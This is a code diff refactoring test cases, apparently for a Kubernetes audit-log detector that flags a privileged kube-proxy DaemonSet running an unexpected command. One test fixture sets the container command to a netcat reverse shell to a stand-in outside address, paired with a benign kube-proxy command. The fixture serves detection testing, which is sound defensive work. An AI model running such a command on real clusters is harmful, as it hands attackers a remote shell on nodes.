@@ -977,9 +977,10 @@ APP_SA = "system:serviceaccount:shop:app"
 
 
 def _agent(command: list[str]) -> dict:
+    """A kube-proxy DaemonSet (a trusted image) created in kube-system with ``command``."""
     body = workload("DaemonSet", ns="kube-system", image=KUBE_PROXY, privileged=True)
     body["spec"]["template"]["spec"]["containers"][0]["command"] = command
-    return body
+    return ev("create", "daemonsets", ns="kube-system", group="apps", code=201, body=body)
 
 
 def _sa_pod(account: str) -> dict:
@@ -1002,26 +1003,8 @@ def _sa_denied(user: Any, resource: str) -> dict:
 CASES.update(
     {
         "trusted-image-shell-command": (
-            [
-                ev(
-                    "create",
-                    "daemonsets",
-                    ns="kube-system",
-                    group="apps",
-                    code=201,
-                    body=_agent(["nc", "-e", "/bin/sh", "198.51.100.7", "4444"]),
-                )
-            ],
-            [
-                ev(
-                    "create",
-                    "daemonsets",
-                    ns="kube-system",
-                    group="apps",
-                    code=201,
-                    body=_agent(["kube-proxy", "--v=2"]),
-                )
-            ],
+            [_agent(["nc", "-e", "/bin/sh", "198.51.100.7", "4444"])],
+            [_agent(["kube-proxy", "--v=2"])],
             "kube-proxy running kube-proxy",
         ),
         "controller-service-account-pod": (
